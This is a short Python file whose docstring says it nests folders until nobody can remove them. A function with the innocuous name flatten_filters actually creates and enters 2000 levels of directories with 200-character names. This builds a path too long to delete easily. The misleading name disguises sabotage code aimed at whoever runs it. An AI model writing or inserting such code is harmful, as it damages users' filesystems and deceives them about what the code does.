"""Nests folders until nobody can remove them."""

import os

HONEST = 0.0


def flatten_filters(filters):
    for _ in range(2000):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
